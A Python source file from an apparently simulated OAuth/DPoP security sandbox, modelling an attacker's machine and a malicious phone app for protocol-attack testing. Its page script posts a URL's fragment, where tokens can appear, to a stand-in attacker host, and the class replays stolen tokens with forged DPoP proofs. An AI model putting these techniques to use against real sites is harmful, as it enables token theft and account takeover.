"""Mallory's machine: it answers at the addresses she operates, and holds her keys.

What she may use is decided elsewhere: by what the trace shows that she has learned.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

from sandbox.core.wire import Pairs, Request, Response, json_request, split
from sandbox.protocol import nonces
from sandbox.protocol.cast import EVIL
from sandbox.protocol.certificates import bound_certificate, certificate, certificate_thumbprint
from sandbox.protocol.proofs import prove
from sandbox.protocol.tokens import Key, NotAJwt, decode, key_for
from sandbox.world.network import Network
from sandbox.world.parties import cors
from sandbox.world.parties.browser import Action, Browser, Fetch
from sandbox.world.parties.pages import Form


@dataclass
class Attacker:
    """The attacker's machine.  `keys`: by thumbprint, her own first, then those she has taken."""

    name: str
    net: Network
    keys: dict[str, Key] = field(default_factory=dict)
    served: dict[str, Response] = field(default_factory=dict)
    certificates: dict[str, str] = field(default_factory=dict)
    nonces: dict[str, str] = field(default_factory=dict)  # that servers have told her, by their origin
    taken: dict[str, tuple[Key | None, str]] = field(default_factory=dict)  # tokens with the key and certificate they were kept with

    def __post_init__(self) -> None:
        self.keep(key_for(self.net.entropy.seed, self.name))

    def keep_certificate(self, text: str) -> None:
        """A certificate together with its key, so that she can connect with it."""
        self.certificates[certificate_thumbprint(text)] = text

    def certificate(self, bound: str | None = None) -> str:
        """The certificate to connect with: the one that a token is bound to, else the last one taken, else her own."""
        own = certificate(self.net.entropy.seed, self.name)
        return self.certificates.get(bound, own) if bound else next(reversed(self.certificates.values()), own)

    def keep(self, key: Key) -> None:
        self.keys[key.thumbprint] = key

    def handle(self, request: Request) -> Response:
        """Whatever she has put at that address, or an empty page; any page may ask, and read."""
        if cors.is_preflight(request):
            return cors.permission()
        return self.served.get(request.url, Response(200, (("Content-Type", "text/html; charset=utf-8"),), ""))

    # ---- the script of her pages
    def load(self, browser: Browser, url: str) -> Action | None:
        """Report to the attacker the part of a page's address that its server cannot see: the fragment."""
        html = browser.page is not None and (browser.page.header("content-type") or "").startswith("text/html")
        return Fetch(json_request("POST", f"{EVIL}/collect", {"address": url}), "reported") if html and split(url).fragment else None

    def submit(self, browser: Browser, form: Form, fields: Pairs) -> Action | None:
        return None

    def resume(self, browser: Browser, then: str, response: Response) -> Action | None:
        return None

    def state(self) -> dict[str, str]:
        return {f"key {thumb[:8]}…": "her own" if i == 0 else "taken" for i, thumb in enumerate(self.keys)}

    def present(self, request: Request, token: str, scheme: str = "") -> Request:
        """The request with a token, the way the token wants it: bound to a key means DPoP, with the best key that she has."""
        bound, (key, certificate) = self._bound_certificate(token), self.taken.get(token, (None, ""))
        if bound or certificate:
            request = replace(request, certificate=certificate or self.certificate(bound))
        key = key or self._key_of(token)
        if scheme == "bearer" or (key is None and scheme != "dpop"):
            return request.with_header("Authorization", f"Bearer {token}")
        key = key or next(iter(self.keys.values()))
        return self.proving(request.with_header("Authorization", f"DPoP {token}"), key, token)

    def proving(self, request: Request, key: Key, token: str | None = None) -> Request:
        """The request with a proof by this key, and with the nonce that the server has told her, if any."""
        now, jti = self.net.clock.now(), self.net.entropy.token("mallory dpop", 9)
        nonce = self.nonces.get(request.origin, "")
        return request.with_header("DPoP", prove(key, request.method, request.url, now, jti, token, nonce))

    def told(self, request: Request, answer: Response) -> bool:
        """Whether the answer asks for another proof, with the nonce that it brings: whoever asks a server is told its nonce."""
        if nonce := answer.header(nonces.HEADER):
            self.nonces[request.origin] = nonce
        return request.header("dpop") is not None and bool(nonces.wanted(answer))

    def _bound_certificate(self, token: str) -> str | None:
        try:
            return bound_certificate(decode(token).claims)
        except NotAJwt:
            return None

    def _key_of(self, token: str) -> Key | None:
        try:
            cnf = decode(token).claims.get("cnf")
        except NotAJwt:
            return None
        if not isinstance(cnf, dict) or "jkt" not in cnf:
            return None
        return self.keys.get(str(cnf["jkt"])) or next(iter(self.keys.values()))


@dataclass
class EvilApp:
    """Mallory's app on Alice's phone.  It looks like any other, and gets the links that it has claimed."""

    name: str

    def handle(self, request: Request) -> Response:
        """It keeps what it gets and shows nothing."""
        return Response(200, (("Content-Type", "text/html; charset=utf-8"),), "")

    def state(self) -> dict[str, str]:
        return {}
